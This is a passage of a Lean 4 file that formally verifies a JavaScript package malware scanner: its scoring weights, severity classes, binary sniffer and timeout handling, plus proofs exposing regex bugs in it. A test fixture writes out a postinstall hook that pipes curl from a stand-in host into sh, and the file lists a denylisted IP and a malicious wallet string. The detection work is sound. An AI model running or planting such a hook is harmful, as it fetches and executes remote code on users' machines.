  + (if p.shellDownload then 35 else 0)
  + (if p.cryptoWalletTargeting then 30 else 0)
  + (if p.pkgExecNet then 30 else 0)
  + (if p.dangerous then 25 else 0)
  + (if p.suspiciousWords then 25 else 0)
  + (if p.vsCodeExtensionAPI then 20 else 0)
  + (if p.hardcodedIp then 20 else 0)
  + (if p.netFuncs then 15 else 0)
  + (if 3 ≤ p.multipleSignals then 15 else 0)
  + (if p.invisAnywhere then 10 else 0)
  + (if p.fileIsExecutableScript then 10 else 0)

/-- Weird control bytes counted by the binary sniffer: code below 9 or strictly
between 13 and 32. -/
def weirdCount (l : List Nat) : Nat :=
  (l.filter fun c => decide (c < 9 ∨ (13 < c ∧ c < 32))).length

/-- A source text that is exactly the known-malicious wallet string. -/
def walletOnlyText : String := "28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2"

/-- A source file whose whole content is the known-malicious wallet string. -/
def walletFile : FileInput :=
  ⟨"node_modules/pkg/payload.js", "payload.js", ".js", 44, true, walletOnlyText, none⟩

/-- A source file containing a denylisted public IPv4 literal. -/
def ipFile : FileInput :=
  ⟨"node_modules/pkg/net.js", "net.js", ".js", 28, true,
   "const host = \"217.69.3.218\";", none⟩

/-- A plain small source file. -/
def srcFileW : FileInput := ⟨"node_modules/pkg/index.js", "index.js", ".js", 5, true, "x = 1", none⟩

/-- Signal set scoring 55: invisible identifier (40) plus network function (15). -/
def p55 : Parts := { invisInIdentifier := true, netFuncs := true, multipleSignals := 2 }

/-- Signal set scoring 35: suspicious keyword (25) plus invisible anywhere (10). -/
def p35 : Parts := { suspiciousWords := true, invisAnywhere := true, multipleSignals := 1 }

/-- A manifest whose postinstall script downloads and pipes to a shell. -/
def pjW : PackageJson := ⟨[("postinstall", "curl http://evil.test/x | sh")], none, none, none⟩

/-- The package.json file carrying pjW. -/
def manifestFileW : FileInput :=
  ⟨"node_modules/evil/package.json", "package.json", ".json", 80, true,
   "\x7b \"scripts\": \x7b \"postinstall\": \"curl http://evil.test/x | sh\" \x7d \x7d",
   some pjW⟩

/-- A task whose inspection would outlive the default 15000 ms deadline. -/
def taskA : FileTask := ⟨"node_modules/big/slow.js", 20000, Except.ok none⟩

/-- A task rejecting quickly with the matchAll TypeError. -/
def taskB : FileTask := ⟨"node_modules/pkg/bad.js", 10, Except.error JsError.typeError⟩

/-- A task returning a finding. -/
def taskC : FileTask :=
  ⟨"node_modules/evil/package.json", 10,
   Except.ok (some ⟨"node_modules/evil/package.json", Level.medium, 40,
     { pkgPostInstall := true, multipleSignals := 1 }, {}⟩)⟩

/-- The three-task queue used to witness the orchestrator accounting. -/
def filesW : List FileTask := [taskA, taskB, taskC]

/-- The source-kind branch always aborts with the matchAll TypeError: the bind on
hardcodedIpBlock propagates the error raised on the flagless IP literal. -/
theorem sourceBranch_err (t : String) : sourceBranch t = Except.error JsError.typeError := by
  simp [sourceBranch, hardcodedIpBlock, jsMatchAll, ipRegex, Bind.bind, Except.bind]

/-- Any file passing the gates with a non-json extension makes inspect reject with
the matchAll TypeError. -/
theorem inspect_src (cfg : ScanConfig) (f : FileInput)
    (h1 : ignoreName f.base = false) (h2 : f.readable = true)
    (h3 : f.size ≤ MAX_BYTES) (h4 : jsLike f.ext f.base = true)
    (h5 : f.ext ≠ ".json") (h6 : isBinaryLikely (utf8Bytes f.content) = false) :
    inspect cfg f = Except.error JsError.typeError := by
  have h3' : ¬ MAX_BYTES < f.size := Nat.not_lt.mpr h3
  simp [inspect, h1, h2, h3', h4, h5, h6, sourceBranch_err]

/-- C1: for every scanned file that passes the ignore-name, size and extension
gates, is readable, is not classified binary, and whose extension is not .json
(every source-kind file), inspect always rejects with a TypeError — matchAll is
invoked on the non-global IP regex before any result can be returned — so no
source-kind file ever yields a Finding; and the worker swallows the rejection,
counting the file as processed with no finding and no skip record. -/
theorem C1_source_kind_always_typeError (cfg : ScanConfig) (f : FileInput)
    (h1 : ignoreName f.base = false) (h2 : f.readable = true)
    (h3 : f.size ≤ MAX_BYTES) (h4 : jsLike f.ext f.base = true)
    (h5 : f.ext ≠ ".json") (h6 : isBinaryLikely (utf8Bytes f.content) = false) :
    inspect cfg f = Except.error JsError.typeError ∧
    ∀ st : ScanState, workerStep st f.path (inspect cfg f) =
      { st with processed := st.processed + 1 } := by
  have he := inspect_src cfg f h1 h2 h3 h4 h5 h6
  refine ⟨he, fun st => ?_⟩
  rw [he]
  simp only [workerStep]
  rw [if_neg (by decide)]

/-- Witness for C1 at a concrete source file. -/
theorem C1_source_kind_always_typeError_witness :
    ignoreName srcFileW.base = false ∧ srcFileW.readable = true ∧
    srcFileW.size ≤ MAX_BYTES ∧ jsLike srcFileW.ext srcFileW.base = true ∧
    srcFileW.ext ≠ ".json" ∧ isBinaryLikely (utf8Bytes srcFileW.content) = false ∧
    (inspect defaultCfg srcFileW = Except.error JsError.typeError ∧
     ∀ st : ScanState, workerStep st srcFileW.path (inspect defaultCfg srcFileW) =
       { st with processed := st.processed + 1 }) :=
  ⟨by decide, by decide, by decide, by decide, by decide, by decide,
   C1_source_kind_always_typeError defaultCfg srcFileW
     (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)⟩

/-- C2 (code bug): the known-malicious wallet string alone passes the wallet-shape
test with no Solana vocabulary present, yet the Solana block — and the whole
inspection — reject with the matchAll TypeError, so solanaBlockchainC2 can never
fire; the claimed firing describes the intent, not the code. -/
theorem C2_solana_signal_never_fires :
    solanaWalletTest walletOnlyText.data = true ∧
    wordAltTest false solanaKeywordAlts walletOnlyText.data = false ∧
    solanaC2Block walletOnlyText = Except.error JsError.typeError ∧
    inspect defaultCfg walletFile = Except.error JsError.typeError := by
  refine ⟨by decide, by decide, ?_, ?_⟩
  · have ht : solanaWalletTest walletOnlyText.data = true := by decide
    simp [solanaC2Block, ht, jsMatchAll, solanaWalletRegex, Bind.bind, Except.bind]
  · exact inspect_src defaultCfg walletFile
      (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)

/-- C3 (code bug): the hardcoded-IP block rejects with the matchAll TypeError on
every text whatsoever — the IP literal has no g flag — so neither hardcodedIp nor
knownC2Infrastructure can ever fire; shown additionally on a concrete file holding
a denylisted public address. -/
theorem C3_hardcodedIp_never_fires :
    (∀ t : String, hardcodedIpBlock t = Except.error JsError.typeError) ∧
    inspect defaultCfg ipFile = Except.error JsError.typeError := by
  refine ⟨fun t => ?_, ?_⟩
  · simp [hardcodedIpBlock, jsMatchAll, ipRegex, Bind.bind, Except.bind]
  · exact inspect_src defaultCfg ipFile
      (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)

/-- C4: with includeLow false, the filter tail of inspect withholds the computed
finding exactly when the severity class is low and the score is under minScore;
medium, high and critical findings pass regardless of minScore. -/
theorem C4_low_filter_iff (ms : Int) (file : String) (p : Parts) (d : Details) :
    (finalize ⟨ms, false⟩ file p d = none ↔
      classify (scoreFinding p : Int) = Level.low ∧ (scoreFinding p : Int) < ms) := by
  simp only [finalize]
  split_ifs with h
  · exact iff_of_true rfl ⟨h.1, h.2.2⟩
  · refine iff_of_false (by simp) fun hc => h ⟨hc.1, by simp, hc.2⟩

/-- C5 counterexample: with minScore 60 and includeLow false, the signal set
scoring 55 (class medium) is NOT dropped — finalize returns a finding — refuting
the claimed drop. -/
theorem C5_medium55_not_dropped :
    scoreFinding p55 = 55 ∧ classify (55 : Int) = Level.medium ∧
    finalize defaultCfg "f.js" p55 {} ≠ none := by decide

/-- C5 amended: with minScore 60 and includeLow false, a file scoring 55 with
class medium is retained (minScore never filters non-low classes), while a file
scoring 35 with class low has its score compared against minScore and is dropped
since 35 < 60. -/
theorem C5_literal_filter_behavior :
    scoreFinding p55 = 55 ∧ classify (55 : Int) = Level.medium ∧
    (finalize defaultCfg "f.js" p55 {}).isSome = true ∧
    scoreFinding p35 = 35 ∧ classify (35 : Int) = Level.low ∧
    finalize defaultCfg "g.js" p35 {} = none := by decide

/-- Monotone step for a single weighted signal. -/
theorem ite_w_mono {a b : Bool} (w : Nat) (h : a = true → b = true) :
    (if a then w else 0) ≤ (if b then w else 0) := by
  cases a
  · simp
  · rw [h rfl]

/-- Scores never decrease along the pointwise signal order. -/
theorem scoreFinding_mono (p q : Parts) (h : partsLE p q) :
    scoreFinding p ≤ scoreFinding q := by
  obtain ⟨h1, h2, h3, h4, h5, h6, h7, h8, h9, h10, h11, h12, h13, h14, h15, h16, h17, hms⟩ := h
  have hm : (if 3 ≤ p.multipleSignals then 15 else 0) ≤
      (if 3 ≤ q.multipleSignals then (15 : Nat) else 0) := by
    split_ifs <;> omega
  simp only [scoreFinding]
  refine min_le_min ?_ le_rfl
  exact Nat.add_le_add (Nat.add_le_add (Nat.add_le_add (Nat.add_le_add (Nat.add_le_add
    (Nat.add_le_add (Nat.add_le_add (Nat.add_le_add (Nat.add_le_add (Nat.add_le_add
    (Nat.add_le_add (Nat.add_le_add (Nat.add_le_add (Nat.add_le_add (Nat.add_le_add
    (Nat.add_le_add (Nat.add_le_add (ite_w_mono 40 h1) (ite_w_mono 10 h2))
    (ite_w_mono 25 h3)) (ite_w_mono 15 h4)) (ite_w_mono 25 h5)) (ite_w_mono 35 h6))
    (ite_w_mono 20 h7)) (ite_w_mono 45 h8)) (ite_w_mono 40 h9)) (ite_w_mono 30 h10))
    (ite_w_mono 10 h11)) (ite_w_mono 60 h12)) (ite_w_mono 50 h13)) (ite_w_mono 50 h14))
    (ite_w_mono 35 h15)) (ite_w_mono 20 h16)) (ite_w_mono 30 h17)) hm

/-- C6: scores are always within 0..100 (Nat, so never negative), equal the spec
table weights summed and saturated at 100, and are monotone: setting more signals
never lowers the score. -/
theorem C6_score_bounds_weights_monotone (p : Parts) :
    scoreFinding p ≤ 100 ∧ scoreFinding p = min (specWeightSum p) 100 ∧
    ∀ q : Parts, partsLE p q → scoreFinding p ≤ scoreFinding q := by
  refine ⟨?_, ?_, fun q h => scoreFinding_mono p q h⟩
  · simp only [scoreFinding]
    omega
  · simp only [scoreFinding, specWeightSum]
    omega

/-- Witness for C6 at a concrete pair of ordered signal sets. -/
theorem C6_score_bounds_weights_monotone_witness :
    partsLE ({} : Parts) p55 ∧ scoreFinding ({} : Parts) ≤ scoreFinding p55 :=
  ⟨by decide, (C6_score_bounds_weights_monotone {}).2.2 p55 (by decide)⟩

/-- C7: classify maps 80 and above to critical, 60..79 to high, 40..59 to medium
and everything else to low, with the exact boundary values. -/
theorem C7_classify_boundaries (s : Int) :
    (80 ≤ s → classify s = Level.critical) ∧
    (60 ≤ s → s ≤ 79 → classify s = Level.high) ∧
    (40 ≤ s → s ≤ 59 → classify s = Level.medium) ∧
    (s ≤ 39 → classify s = Level.low) ∧
    classify 79 = Level.high ∧ classify 80 = Level.critical ∧
    classify 59 = Level.medium ∧ classify 60 = Level.high ∧
    classify 39 = Level.low ∧ classify 40 = Level.medium := by
  refine ⟨fun h => ?_, fun ha hb => ?_, fun ha hb => ?_, fun h => ?_,
    by decide, by decide, by decide, by decide, by decide, by decide⟩
  · unfold classify; rw [if_pos h]
  · unfold classify; rw [if_neg (by omega), if_pos ha]
  · unfold classify; rw [if_neg (by omega), if_neg (by omega), if_pos ha]
  · unfold classify; rw [if_neg (by omega), if_neg (by omega), if_neg (by omega)]

/-- Witness for C7 at concrete scores in each class. -/
theorem C7_classify_boundaries_witness :
    classify 100 = Level.critical ∧ classify 70 = Level.high ∧
    classify 45 = Level.medium ∧ classify 10 = Level.low :=
  ⟨(C7_classify_boundaries 100).1 (by decide),
   (C7_classify_boundaries 70).2.1 (by decide) (by decide),
   (C7_classify_boundaries 45).2.2.1 (by decide) (by decide),
   (C7_classify_boundaries 10).2.2.2.1 (by decide)⟩

/-- When some script entry passes the lifecycle-and-net/exec filter, the manifest
branch raises the pkgPostInstall signal. -/
theorem manifestBranch_post (pj : PackageJson)
    (hne : (pj.scripts.filter fun kv =>
      nameHit kv.1 && (netHit kv.2 || execHit kv.2)).isEmpty = false) :
    (manifestBranch (some pj)).1.pkgPostInstall = true := by
  rcases hb : pj.bin with _ | bs <;> rcases hv : pj.enginesVscode with _ | v <;>
    simp [manifestBranch, hb, hv, hne] <;> split_ifs <;> rfl

/-- Any signal set containing pkgPostInstall scores at least its weight of 40. -/
theorem scoreFinding_ge_post (p : Parts) (hp : p.pkgPostInstall = true) :
    40 ≤ scoreFinding p := by
  have hle : partsLE { pkgPostInstall := true } p := by simp [partsLE, hp]
  have h := scoreFinding_mono { pkgPostInstall := true } p hle
  have h40 : scoreFinding { pkgPostInstall := true } = 40 := by decide
  omega

/-- A finding scoring at least 40 is never withheld by the low-severity filter. -/
theorem finalize_some_of_ge40 (cfg : ScanConfig) (file : String) (p : Parts) (d : Details)
    (h : 40 ≤ scoreFinding p) :
    finalize cfg file p d =
      some ⟨file, classify (scoreFinding p : Int), scoreFinding p, p, d⟩ := by
  simp only [finalize]
  rw [if_neg]
  rintro ⟨hl, -, -⟩
  have h40 : (40 : Int) ≤ (scoreFinding p : Int) := by exact_mod_cast h
  unfold classify at hl
  split_ifs at hl <;> first | exact Level.noConfusion hl | omega

/-- C8: every package.json manifest whose scripts carry
postinstall = curl http://evil.test/x | sh makes inspect raise pkgPostInstall
(the lifecycle name co-occurs with a download URL) and return a finding whose
score is at least 40, under every configuration. -/
theorem C8_postinstall_curl_flags (cfg : ScanConfig) (f : FileInput) (pj : PackageJson)
    (h1 : ignoreName f.base = false) (h2 : f.readable = true)
    (h3 : f.size ≤ MAX_BYTES) (hb : f.base = "package.json") (he : f.ext = ".json")
    (h6 : isBinaryLikely (utf8Bytes f.content) = false)
    (hm : f.manifest = some pj)
    (hs : ("postinstall", "curl http://evil.test/x | sh") ∈ pj.scripts) :
    ∃ fd : Finding, inspect cfg f = Except.ok (some fd) ∧
      fd.signals.pkgPostInstall = true ∧ 40 ≤ fd.score := by
  have h3' : ¬ MAX_BYTES < f.size := Nat.not_lt.mpr h3
  have h4 : jsLike f.ext f.base = true := by rw [he, hb]; decide
  have hmemf : ("postinstall", "curl http://evil.test/x | sh") ∈
      pj.scripts.filter fun kv => nameHit kv.1 && (netHit kv.2 || execHit kv.2) :=
    List.mem_filter.mpr ⟨hs, by decide⟩
  have hne : (pj.scripts.filter fun kv =>
      nameHit kv.1 && (netHit kv.2 || execHit kv.2)).isEmpty = false := by
    cases hx : pj.scripts.filter fun kv => nameHit kv.1 && (netHit kv.2 || execHit kv.2) with
    | nil => rw [hx] at hmemf; cases hmemf
    | cons a l => rfl
  have hpost := manifestBranch_post pj hne
  have hig : ignoreName "package.json" = false := by decide
  have hjs : jsLike ".json" "package.json" = true := by decide
  have hins : inspect cfg f =
      Except.ok (finalize cfg f.path
        { (manifestBranch (some pj)).1 with
            multipleSignals := multiCount (manifestBranch (some pj)).1 }
        (manifestBranch (some pj)).2) := by
    simp [inspect, h1, h2, h3', h4, h6, he, hb, hm, hig, hjs]
  have hp2 : ({ (manifestBranch (some pj)).1 with
      multipleSignals := multiCount (manifestBranch (some pj)).1 } : Parts).pkgPostInstall
      = true := hpost
  have hsc : 40 ≤ scoreFinding ({ (manifestBranch (some pj)).1 with
      multipleSignals := multiCount (manifestBranch (some pj)).1 } : Parts) :=
    scoreFinding_ge_post _ hp2
  refine ⟨⟨f.path,
      classify (scoreFinding ({ (manifestBranch (some pj)).1 with
        multipleSignals := multiCount (manifestBranch (some pj)).1 } : Parts) : Int),
      scoreFinding ({ (manifestBranch (some pj)).1 with
        multipleSignals := multiCount (manifestBranch (some pj)).1 } : Parts),
      { (manifestBranch (some pj)).1 with
        multipleSignals := multiCount (manifestBranch (some pj)).1 },
      (manifestBranch (some pj)).2⟩, ?_, hp2, hsc⟩
  rw [hins, finalize_some_of_ge40 _ _ _ _ hsc]

/-- Witness for C8 at a concrete malicious manifest. -/
theorem C8_postinstall_curl_flags_witness :
    ignoreName manifestFileW.base = false ∧
    isBinaryLikely (utf8Bytes manifestFileW.content) = false ∧
    ("postinstall", "curl http://evil.test/x | sh") ∈ pjW.scripts ∧
    (∃ fd : Finding, inspect defaultCfg manifestFileW = Except.ok (some fd) ∧
      fd.signals.pkgPostInstall = true ∧ 40 ≤ fd.score) :=
  ⟨by decide, by decide, by decide,
   C8_postinstall_curl_flags defaultCfg manifestFileW pjW (by decide) rfl (by decide)
     rfl rfl (by decide) rfl (by decide)⟩

/-- Closed form of the scan fold: findings and skips are the per-task
contributions in dispatch order, and processed counts every task. -/
theorem runScan_closed (ms : Nat) (files : List FileTask) (st : ScanState) :
    files.foldl (fun s t => workerStep s t.path (inspectWithTimeout t ms)) st =
      ⟨st.out ++ files.filterMap (findingOf ms),
       st.skipped ++ files.filterMap (skipOf ms),
       st.processed + files.length⟩ := by
  induction files generalizing st with
  | nil => simp
  | cons t ts ih =>
    rw [List.foldl_cons, ih]
    rcases hr : inspectWithTimeout t ms with e | r
    · by_cases hmsg : e.message = "timeout" <;>
        simp [workerStep, hr, hmsg, skipOf, findingOf, ScanState.mk.injEq] <;> omega
    · rcases r with _ | fd <;>
        simp [workerStep, hr, skipOf, findingOf, ScanState.mk.injEq] <;> omega

/-- The scan state after a full drain, in closed form. -/
theorem runScan_eq (ms : Nat) (files : List FileTask) :
    runScan ms files =
      ⟨files.filterMap (findingOf ms), files.filterMap (skipOf ms), files.length⟩ := by
  unfold runScan
  rw [runScan_closed]
  simp

/-- A skip record always carries the path of the task that produced it, with
reason timeout. -/
theorem skipOf_some (ms : Nat) (t : FileTask) (r : SkipRecord)
    (h : skipOf ms t = some r) : r.file = t.path ∧ r.reason = "timeout" := by
  rcases hr : inspectWithTimeout t ms with e | v
  · unfold skipOf at h
    rw [hr] at h
    change (if e.message = "timeout" then some (⟨t.path, "timeout"⟩ : SkipRecord)
      else none) = some r at h
    split_ifs at h
    cases h
    exact ⟨rfl, rfl⟩
  · unfold skipOf at h
    rw [hr] at h
    change (none : Option SkipRecord) = some r at h
    cases h

/-- Counting skip records for a path equals counting the tasks of that path that
produce a skip. -/
theorem filterMap_skip_count (ms : Nat) (P : String) (files : List FileTask) :
    ((files.filterMap (skipOf ms)).filter fun r => r.file == P).length =
      ((files.filter fun u => u.path == P).filter fun u => (skipOf ms u).isSome).length := by
  induction files with
  | nil => rfl
  | cons t ts ih =>
    rcases hsk : skipOf ms t with _ | r
    · by_cases hp : t.path = P <;>
        simp [List.filterMap_cons, hsk, List.filter_cons, hp, ih]
    · have hf : r.file = t.path := (skipOf_some ms t r hsk).1
      by_cases hp : t.path = P <;>
        simp [List.filterMap_cons, hsk, List.filter_cons, hp, hf, ih]

/-- A filtered list of length one containing a known member is that singleton. -/
theorem filter_len_one {α : Type} (l : List α) (p : α → Bool) (a : α)
    (ha : a ∈ l) (hpa : p a = true) (h1 : (l.filter p).length = 1) :
    l.filter p = [a] := by
  have hm : a ∈ l.filter p := List.mem_filter.mpr ⟨ha, hpa⟩
  rcases hl : l.filter p with _ | ⟨x, xs⟩
  · rw [hl] at hm
    cases hm
  · rw [hl] at h1 hm
    have hxs : xs = [] := by
      simp only [List.length_cons] at h1
      exact List.eq_nil_of_length_eq_zero (by omega)
    subst hxs
    have hax : a = x := by simpa using hm
    rw [hax]

/-- A task contributing no finding never has its path appear among the findings of
a queue in which its path occurs exactly once, assuming well-formed outcomes. -/
theorem out_not_path (ms : Nat) (files : List FileTask) (t : FileTask)
    (hwf : files.all taskWF = true) (hmem : t ∈ files)
    (huniq : (files.filter fun u => u.path == t.path).length = 1)
    (hres : findingOf ms t = none) :
    ∀ fd ∈ files.filterMap (findingOf ms), fd.file ≠ t.path := by
  intro fd hfd heq
  obtain ⟨u, hu, hfu⟩ := List.mem_filterMap.mp hfd
  have hwu : taskWF u = true := List.all_eq_true.mp hwf u hu
  have hiw : inspectWithTimeout u ms = Except.ok (some fd) := by
    unfold findingOf at hfu
    cases hr : inspectWithTimeout u ms with
    | error e =>
      rw [hr] at hfu
      change (none : Option Finding) = some fd at hfu
      cases hfu
    | ok v =>
      rw [hr] at hfu
      cases v with
      | none =>
        change (none : Option Finding) = some fd at hfu
        cases hfu
      | some fd2 =>
        change some fd2 = some fd at hfu
        cases hfu
        rfl
  have hres2 : u.result = Except.ok (some fd) := by
    unfold inspectWithTimeout at hiw
    by_cases hd : ms < u.duration
    · rw [if_pos hd] at hiw
      cases hiw
    · rw [if_neg hd] at hiw
      exact hiw
  have hfile : fd.file = u.path := by
    unfold taskWF at hwu
    rw [hres2] at hwu
    change (fd.file == u.path) = true at hwu
    exact eq_of_beq hwu
  have hupath : u.path = t.path := by rw [← hfile, heq]
  have hin : u ∈ files.filter fun v => v.path == t.path :=
    List.mem_filter.mpr ⟨hu, by simp [hupath]⟩
  have hft : (files.filter fun v => v.path == t.path) = [t] :=
    filter_len_one _ _ t hmem (by simp) huniq
  rw [hft] at hin
  have hut : u = t := by simpa using hin
  rw [hut] at hiw
  unfold findingOf at hres
  rw [hiw] at hres
  change some fd = none at hres
  cases hres

/-- C9: a dispatched file whose inspection exceeds the deadline is recorded exactly
once in skipped with reason timeout and never appears in findings; a file whose
inspection faults otherwise (message not timeout) yields neither finding nor skip;
in both cases processed still counts every file, so the scan covers the whole
queue. -/
theorem C9_orchestrator_accounting (ms : Nat) (files : List FileTask) (t : FileTask)
    (hwf : files.all taskWF = true) (hmem : t ∈ files)
    (huniq : (files.filter fun u => u.path == t.path).length = 1) :
    (runScan ms files).processed = files.length ∧
    (ms < t.duration →
      ((runScan ms files).skipped.filter fun r => r.file == t.path).length = 1 ∧
      ((runScan ms files).skipped.filter fun r => r.file == t.path).all
        (fun r => r.reason == "timeout") = true ∧
      ∀ fd ∈ (runScan ms files).out, fd.file ≠ t.path) ∧
    (∀ e : JsError, t.duration ≤ ms → t.result = Except.error e →
      e.message ≠ "timeout" →
      ((runScan ms files).skipped.filter fun r => r.file == t.path).length = 0 ∧
      ∀ fd ∈ (runScan ms files).out, fd.file ≠ t.path) := by
  rw [runScan_eq]
  refine ⟨rfl, ?_, ?_⟩
  · intro hto
    have hiw : inspectWithTimeout t ms = Except.error JsError.timeout := by
      unfold inspectWithTimeout
      rw [if_pos hto]
    have hskip : skipOf ms t = some ⟨t.path, "timeout"⟩ := by
      unfold skipOf
      rw [hiw]
      change (if JsError.timeout.message = "timeout" then
        some (⟨t.path, "timeout"⟩ : SkipRecord) else none) = some ⟨t.path, "timeout"⟩
      simp [JsError.message]
    have hres : findingOf ms t = none := by
      unfold findingOf
      rw [hiw]
    have hft : (files.filter fun v => v.path == t.path) = [t] :=
      filter_len_one _ _ t hmem (by simp) huniq
    refine ⟨?_, ?_, out_not_path ms files t hwf hmem huniq hres⟩
    · rw [filterMap_skip_count ms t.path files, hft]
      simp [hskip]
    · apply List.all_eq_true.mpr
      intro r hr
      obtain ⟨u, hu, hfu⟩ := List.mem_filterMap.mp (List.mem_filter.mp hr).1
      simp [(skipOf_some ms u r hfu).2]
  · intro e hle hre hmsg
    have hiw : inspectWithTimeout t ms = Except.error e := by
      unfold inspectWithTimeout
      rw [if_neg (by omega), hre]
    have hskip : skipOf ms t = none := by
      unfold skipOf
      rw [hiw]
      change (if e.message = "timeout" then some (⟨t.path, "timeout"⟩ : SkipRecord)
        else none) = none
      rw [if_neg hmsg]
    have hres : findingOf ms t = none := by
      unfold findingOf
      rw [hiw]
    have hft : (files.filter fun v => v.path == t.path) = [t] :=
      filter_len_one _ _ t hmem (by simp) huniq
    refine ⟨?_, out_not_path ms files t hwf hmem huniq hres⟩
    rw [filterMap_skip_count ms t.path files, hft]
    simp [hskip]

/-- Witness for C9 on a concrete three-task queue: a deadline overrun, a fast
TypeError rejection, and a normal finding. -/
theorem C9_orchestrator_accounting_witness :
    filesW.all taskWF = true ∧ taskA ∈ filesW ∧
    (filesW.filter fun u => u.path == taskA.path).length = 1 ∧
    ((runScan 15000 filesW).processed = filesW.length ∧
     (15000 < taskA.duration →
       ((runScan 15000 filesW).skipped.filter fun r => r.file == taskA.path).length = 1 ∧
       ((runScan 15000 filesW).skipped.filter fun r => r.file == taskA.path).all
         (fun r => r.reason == "timeout") = true ∧
       ∀ fd ∈ (runScan 15000 filesW).out, fd.file ≠ taskA.path) ∧
     (∀ e : JsError, taskA.duration ≤ 15000 → taskA.result = Except.error e →
       e.message ≠ "timeout" →
       ((runScan 15000 filesW).skipped.filter fun r => r.file == taskA.path).length = 0 ∧
       ∀ fd ∈ (runScan 15000 filesW).out, fd.file ≠ taskA.path)) :=
  ⟨by decide, by decide, by decide,
   C9_orchestrator_accounting 15000 filesW taskA (by decide) (by decide) (by decide)⟩

/-- Hitting a NUL byte makes the sniffer loop report none. -/
theorem binScan_zero (l : List Nat) : ∀ w : Nat, binScan l w = none ↔ 0 ∈ l := by
  induction l with
  | nil => intro w; simp [binScan]
  | cons c rest ih =>
    intro w
    by_cases hc : c = 0
    · simp [binScan, hc]
    · have hc0 : ¬(0 = c) := fun h => hc h.symm
      simp [binScan, hc, hc0, ih]

/-- Without a NUL byte the sniffer loop returns the accumulated weird count. -/
theorem binScan_count (l : List Nat) : ∀ w : Nat, 0 ∉ l →
    binScan l w = some (w + weirdCount l) := by
  induction l with
  | nil => intro w _; simp [binScan, weirdCount]
  | cons c rest ih =>
    intro w h0
    have hc : c ≠ 0 := fun h => h0 (by simp [h])
    have h0r : 0 ∉ rest := fun h => h0 (List.mem_cons_of_mem c h)
    by_cases hw : c < 9 ∨ (13 < c ∧ c < 32) <;>
      simp [binScan, hc, hw, ih _ h0r, weirdCount, List.filter_cons] <;> omega

/-- C10: the binary classifier looks only at the first 4096 bytes; it reports
binary exactly when the sample holds a NUL byte or more than a tenth of it is
weird control bytes (code below 9 or strictly between 13 and 32).  The source
compares against the float product len * 0.1, which coincides with the rational
comparison for every sample length up to 4096. -/
theorem C10_binary_classifier (buf : List Nat) :
    isBinaryLikely buf = true ↔
      (0 ∈ buf.take 4096 ∨
        (buf.take 4096).length < 10 * weirdCount (buf.take 4096)) := by
  simp only [isBinaryLikely]
  by_cases h0 : 0 ∈ buf.take 4096
  · rw [(binScan_zero _ 0).mpr h0]
    simp [h0]
  · rw [binScan_count _ 0 h0]
    simp [h0]
